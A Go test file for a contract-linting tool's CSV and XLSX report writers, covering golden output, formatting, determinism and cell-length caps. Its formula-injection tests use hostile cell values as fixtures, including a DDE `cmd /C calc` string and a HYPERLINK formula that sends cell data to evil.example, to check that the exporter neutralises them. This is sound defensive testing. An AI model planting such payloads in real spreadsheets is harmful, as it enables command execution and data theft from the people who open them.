package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/termlint/termlint/internal/contract"
	"github.com/termlint/termlint/internal/engine"
	"github.com/termlint/termlint/internal/result"
)

func testVendors() *Vendors {
	v := NewVendors()
	v.Add("contracts/acme.yaml", contract.Annotation{Vendor: "Acme B.V.", Texts: []contract.SourceText{{Path: "dropped"}}})
	v.Add("contracts/globex.yaml#2", contract.Annotation{Vendor: "Globex, Inc."})
	return v
}

// readCSV checks the framing a spreadsheet relies on (byte order mark, CRLF, RFC 4180 quoting
// that encoding/csv reads back) and returns the records.
func readCSV(t *testing.T, out []byte) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(out, []byte(utf8BOM))
	if !ok {
		t.Fatalf("no UTF-8 byte order mark: %q", out[:min(len(out), 20)])
	}
	if !bytes.HasSuffix(body, []byte("\r\n")) {
		t.Errorf("the last record does not end with CRLF")
	}
	rd := csv.NewReader(bytes.NewReader(body))
	recs, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("not RFC 4180: %v\n%s", err, out)
	}
	for i, rec := range recs {
		if len(rec) != len(sheetColumns) {
			t.Fatalf("record %d has %d fields, want %d", i, len(rec), len(sheetColumns))
		}
	}
	return recs
}

// TestCSVGolden pins the CSV of the synthetic report (which reaches every verdict, a waiver, a
// rule with two findings of three clauses and input errors) and reads it back as RFC 4180.
func TestCSVGolden(t *testing.T) {
	got := render(t, CSV{Vendors: testVendors()}, testReport())
	if again := render(t, CSV{Vendors: testVendors()}, testReport()); !bytes.Equal(got, again) {
		t.Fatal("two runs on the same report differ")
	}
	path := filepath.Join("testdata", "report.csv")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test ./internal/report -run TestCSVGolden -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (rerun with -update if the change is intended):\n%s", path, got)
	}

	recs := readCSV(t, got)
	// Two contracts of three rules, and two input errors.
	if len(recs) != 1+2*3+2 {
		t.Fatalf("%d records, want %d", len(recs), 1+2*3+2)
	}
	byKey := map[string][]string{}
	for _, rec := range recs[1:] {
		byKey[rec[0]+" "+rec[2]] = rec
	}
	liab := byKey["contracts/acme.yaml liability/excluded-damage"]
	for i, want := range map[int]string{
		1:  "Acme B.V.",
		5:  "fails",
		6:  "2",
		7:  "[1] art. 8.2\n[2] art. 8.3, 8.4",
		8:  "[1] art. 8.2: “Vendor is not liable for:\nindirect damage, lost profit & <data loss> | 100% of fees”\n[2] art. 8.3: “Liability is capped at 10% of fees,\nper year: see *annex* [B]”\n[2] art. 8.4: “# Not a heading; `not code`”",
		9:  "[1] the vendor excludes 100% of \"direct\" damage, lost profit: all of it (art. 8.2)\n[2] the cap is below 50% of the fees (art. 8.3, 8.4)",
		10: "Negotiate the exclusion down to indirect damage and lost profit.",
		11: "waiver expired on 2024-01-01 (was: legacy contract, approved by cfo@example.com)",
		12: "[1] contracts/acme.yaml:12:5\n[2] contracts/acme.yaml:20:7",
	} {
		if liab[i] != want {
			t.Errorf("%s: %q, want %q", sheetColumns[i].Name, liab[i], want)
		}
	}
	// A rule met has its row, with nothing to negotiate and no finding.
	if pass := byKey["contracts/globex.yaml#2 termination/notice-period"]; pass[5] != "meets the playbook" || pass[6] != "0" || pass[10] != "" || pass[9] != "" {
		t.Errorf("passing rule's row: %q", pass)
	}
	// An open question without an article cites its place.
	if unk := byKey["contracts/acme.yaml gdpr/processor-agreement"]; unk[9] != "the document does not say whether the vendor is a processor: role unknown (contracts/acme.yaml:40:3)" {
		t.Errorf("open question's message: %q", unk[9])
	}
	if bad := byKey["contracts/bad2.yaml "]; bad[5] != "not checked" || bad[12] != "contracts/bad2.yaml:3:7" {
		t.Errorf("input error's row: %q", bad)
	}
}

// formulaReport is a contract whose every text a vendor or a pull request could choose starts a
// formula, in both the one-finding and the numbered form.
func formulaReport() (*Report, *Vendors) {
	rule := &engine.Rule{ID: "x/one", Title: "@title", Severity: engine.SeverityError, Remediation: "-negotiate"}
	two := &engine.Rule{ID: "x/two", Title: "t", Severity: engine.SeverityError}
	name := `=cmd|' /C calc'!A0.yaml`
	res := &engine.Result{Contract: name, File: name, Rules: []engine.RuleResult{
		{Rule: rule, Verdict: engine.Fail, Findings: []engine.Finding{{
			Message: "+1+1", Line: 3, Column: 1,
			Sources: []contract.Source{{Art: `=HYPERLINK("http://evil.example/?"&A1,"x")`, Quote: "@SUM(A1:A9)"}},
		}}, Waiver: &engine.WaiverNote{Reason: "\t=1", ApprovedBy: "=2", Expires: "2000-01-01", Expired: true}},
		{Rule: two, Verdict: engine.Fail, Findings: []engine.Finding{
			{Message: "=1", Line: 1, Column: 1},
			{Message: "\r=2", Line: 2, Column: 1, File: "-x.yaml"},
		}},
	}}
	r := &Report{
		Rules: []*engine.Rule{rule, two}, Results: []*engine.Result{res}, Summary: result.Summary{FailOn: "error"},
		InputErrors: []contract.Diagnostic{{File: "+bad.yaml", Message: "=evil"}},
	}
	v := NewVendors()
	v.Add(name, contract.Annotation{Vendor: "=Vendor()"})
	return r, v
}

// TestCSVFormulaInjection checks that no cell of the CSV starts a formula: a hostile one is
// shown as text with a leading '.
func TestCSVFormulaInjection(t *testing.T) {
	r, v := formulaReport()
	recs := readCSV(t, render(t, CSV{Vendors: v}, r))
	neutralised := 0
	for _, rec := range recs {
		for _, cell := range rec {
			if formulaStart(cell) {
				t.Errorf("cell %q starts a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				neutralised++
			}
		}
	}
	row := recs[1]
	for i, want := range map[int]string{
		0:  `'=cmd|' /C calc'!A0.yaml`,
		1:  "'=Vendor()",
		3:  "'@title",
		7:  `art. =HYPERLINK("http://evil.example/?"&A1,"x")`,
		9:  `'+1+1 (art. =HYPERLINK("http://evil.example/?"&A1,"x"))`,
		10: "'-negotiate",
	} {
		if row[i] != want {
			t.Errorf("%s: %q, want %q", sheetColumns[i].Name, row[i], want)
		}
	}
	if recs[3][0] != "'+bad.yaml" || recs[3][9] != "'=evil" {
		t.Errorf("input error's row: %q", recs[3])
	}
	if neutralised < 6 {
		t.Errorf("only %d cells neutralised", neutralised)
	}
}

func readXLSX(t *testing.T, out []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		t.Fatalf("excelize cannot read the file back: %v", err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

// TestXLSXContent reads the workbook back: the same rows as the CSV, numbers as numbers, and the
// layout a reader relies on (frozen header, filter, widths, wrapped text).
func TestXLSXContent(t *testing.T) {
	out := render(t, XLSX{Vendors: testVendors()}, testReport())
	f := readXLSX(t, out)
	if got := f.GetSheetList(); len(got) != 1 || got[0] != xlsxSheet {
		t.Fatalf("sheets %q, want [%s]", got, xlsxSheet)
	}
	rows, err := f.GetRows(xlsxSheet)
	if err != nil {
		t.Fatal(err)
	}
	want := readCSV(t, render(t, CSV{Vendors: testVendors()}, testReport()))
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want the CSV's %d", len(rows), len(want))
	}
	for i := range want {
		for j := range want[i] {
			got := ""
			if j < len(rows[i]) {
				got = rows[i][j]
			}
			if got != want[i][j] {
				t.Errorf("row %d %s: %q, want the CSV's %q", i+1, sheetColumns[j].Name, got, want[i][j])
			}
		}
	}
	// Findings is a number (sums and sorts as one), the rest text.
	if typ, _ := f.GetCellType(xlsxSheet, "G3"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Errorf("Findings cell type %v, want a number", typ)
	}
	if typ, _ := f.GetCellType(xlsxSheet, "J3"); typ != excelize.CellTypeInlineString {
		t.Errorf("Messages cell type %v, want an inline string", typ)
	}

	panes, err := f.GetPanes(xlsxSheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes %+v (%v), want the header row frozen", panes, err)
	}
	tables, err := f.GetTables(xlsxSheet)
	if err != nil || len(tables) != 1 || tables[0].Range != "A1:M9" {
		t.Errorf("tables %+v (%v), want one filtered table over A1:M9", tables, err)
	}
	for i, col := range sheetColumns {
		name, _ := excelize.ColumnNumberToName(i + 1)
		if w, err := f.GetColWidth(xlsxSheet, name); err != nil || w != col.Width {
			t.Errorf("column %s width %v (%v), want %v", name, w, err, col.Width)
		}
	}
	for _, cell := range []string{"A1", "I3", "M9"} {
		id, err := f.GetCellStyle(xlsxSheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil || st.Alignment == nil || !st.Alignment.WrapText || st.Alignment.Vertical != "top" {
			t.Errorf("%s: style %+v (%v), want wrapped text at the top", cell, st, err)
		}
	}
	props, err := f.GetDocProps()
	if err != nil || props.Created != xlsxDate || props.Modified != xlsxDate || props.Creator != "termlint" {
		t.Errorf("document properties %+v (%v)", props, err)
	}
}

// TestXLSXDeterministic checks that the workbook holds no time: two runs give the same bytes, the
// document's dates are fixed and no zip entry carries a modification time.
func TestXLSXDeterministic(t *testing.T) {
	one := render(t, XLSX{Vendors: testVendors()}, testReport())
	two := render(t, XLSX{Vendors: testVendors()}, testReport())
	if !bytes.Equal(one, two) {
		t.Fatal("two runs on the same report give different bytes")
	}
	zr, err := zip.NewReader(bytes.NewReader(one), int64(len(one)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !zf.Modified.IsZero() && zf.Modified.Year() > 1980 {
			t.Errorf("%s has a modification time %v", zf.Name, zf.Modified)
		}
	}
	// The empty report still makes a valid table (a header and one empty row).
	empty := render(t, XLSX{}, &Report{Summary: result.Summary{FailOn: "error"}})
	if tables, err := readXLSX(t, empty).GetTables(xlsxSheet); err != nil || len(tables) != 1 {
		t.Errorf("empty report's tables %+v (%v)", tables, err)
	}
}

// TestXLSXFormulaInjection checks that every hostile text is a string cell holding it exactly:
// no formula, no quote mark added.
func TestXLSXFormulaInjection(t *testing.T) {
	r, v := formulaReport()
	f := readXLSX(t, render(t, XLSX{Vendors: v}, r))
	rows, err := f.GetRows(xlsxSheet)
	if err != nil {
		t.Fatal(err)
	}
	if rows[1][0] != `=cmd|' /C calc'!A0.yaml` || rows[1][1] != "=Vendor()" || rows[3][9] != "=evil" {
		t.Errorf("hostile texts changed: %q / %q", rows[1], rows[3])
	}
	for i, row := range rows {
		for j := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, err := f.GetCellFormula(xlsxSheet, cell); err != nil || formula != "" {
				t.Errorf("%s has a formula %q (%v)", cell, formula, err)
			}
			typ, _ := f.GetCellType(xlsxSheet, cell)
			if j != sheetFindingsColumn && i > 0 && row[j] != "" && typ != excelize.CellTypeInlineString {
				t.Errorf("%s (%q) is of type %v, want a string", cell, row[j], typ)
			}
		}
	}
}

// TestCapCell checks that a cell past Excel's limit is cut at a whole line, says so, and fits.
func TestCapCell(t *testing.T) {
	line := strings.Repeat("€", 99) + "𝄞" // 101 UTF-16 code units, 100 runes
	var lines []string
	for i := range 400 {
		lines = append(lines, strconv.Itoa(i)+line)
	}
	tests := []struct {
		name, in, suffix string
	}{
		{"many lines", strings.Join(lines, "\n"), "more lines not shown: a spreadsheet cell holds at most 32,767 characters (the json format has them all)"},
		{"one long line", strings.Repeat(line, 400), "… the rest not shown: a spreadsheet cell holds at most 32,767 characters (the json format has them all)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := capCell(tt.in)
			if n := utf16Len(got); n > maxCellChars {
				t.Errorf("%d code units, more than %d", n, maxCellChars)
			}
			if !strings.HasSuffix(got, tt.suffix) {
				t.Errorf("ends %q", got[max(0, len(got)-200):])
			}
			kept := strings.Split(got, "\n")
			for _, l := range kept[:len(kept)-1] {
				if tt.name == "many lines" && !strings.HasSuffix(l, line) {
					t.Errorf("a line was cut: %q", l)
				}
			}
		})
	}
	if s := "short\ncell"; capCell(s) != s {
		t.Errorf("capCell changed a short cell")
	}
}

func TestNeedsVendors(t *testing.T) {
	for _, tt := range []struct {
		formats []string
		want    bool
	}{
		{[]string{"text"}, false},
		{[]string{"text", "sarif=x.sarif"}, false},
		{[]string{"csv"}, true},
		{[]string{"", "xlsx=out.xlsx"}, true},
		{nil, false},
	} {
		if got := NeedsVendors(tt.formats...); got != tt.want {
			t.Errorf("NeedsVendors(%q) = %v, want %v", tt.formats, got, tt.want)
		}
	}
}
